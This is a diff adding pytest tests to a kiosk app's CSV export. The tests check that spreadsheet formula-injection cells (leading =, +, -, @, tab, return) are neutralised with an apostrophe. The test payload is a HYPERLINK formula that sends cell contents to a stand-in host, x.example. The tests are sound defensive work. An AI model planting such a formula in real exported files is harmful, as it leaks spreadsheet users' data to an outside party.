@@ -20,7 +20,7 @@ from kiosk.services.context import AppContext
 from kiosk.services.report_records import report_records
 from kiosk.services.summary import build_summary
 from printing import report_pdf
-from printing.report_csv import COLUMNS, CSV_DOC, write_records_csv
+from printing.report_csv import COLUMNS, CSV_DOC, ReportRecord, write_records_csv
 from printing.report_sections import NOTES, summary_tables, title_lines
 from tests.conftest import make_config
 from tests.summary.dataset import MONDAY, STAFF_NAME, TEAM_NAME, VN
@@ -179,3 +179,46 @@ def test_csv_of_an_empty_day_has_only_the_header(ctx: AppContext) -> None:
 def test_csv_doc_describes_every_column() -> None:
     for column in COLUMNS:
         assert column in CSV_DOC
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
+    payload = f'{start}HYPERLINK("http://x.example/?"&A1,"Bấm")'
+    record = ReportRecord(
+        day=MONDAY,
+        is_ticket=False,
+        procedure=payload,
+        place=payload,
+        helpers=(payload, "Lê Thu Hà"),
+        reason=payload,
+    )
+    stream = io.BytesIO()
+    write_records_csv([record], stream, VN)
+
+    (row,) = list(csv.DictReader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
+    for column in ("Thủ tục", "Nơi hỗ trợ", "Lý do"):
+        assert row[column] == "'" + payload
+    assert row["Người hỗ trợ"].startswith("'" + start)
+    assert row["Ngày"] == MONDAY.isoformat()  # ordinary cells are left alone
+
+
+def test_a_walk_in_place_typed_as_a_formula_reaches_the_csv_as_text(
+    ctx: AppContext, week: object
+) -> None:
+    from kiosk.domain.enums import Outcome
+    from kiosk.domain.visits import HelperCredit
+    from kiosk.services.context import CLI_ACTOR
+    from kiosk.services.helpers import add_helper
+    from kiosk.services.visits import record_walk_in
+
+    helper = add_helper(ctx, name="=1+1", kind="volunteer", role="teacher", actor=CLI_ACTOR)
+    record_walk_in(
+        ctx,
+        helpers=[HelperCredit(helper.id)],
+        outcomes=[Outcome.GUIDED_ONLY],
+        actor=CLI_ACTOR,
+        place="@SUM(A1:A9)",
+    )
+    _, rows = read_csv(ctx, Period.day(ctx.clock().date()))
+    row = next(r for r in rows if r["Nơi hỗ trợ"].endswith("SUM(A1:A9)"))
+    assert (row["Nơi hỗ trợ"], row["Người hỗ trợ"]) == ("'@SUM(A1:A9)", "'=1+1")
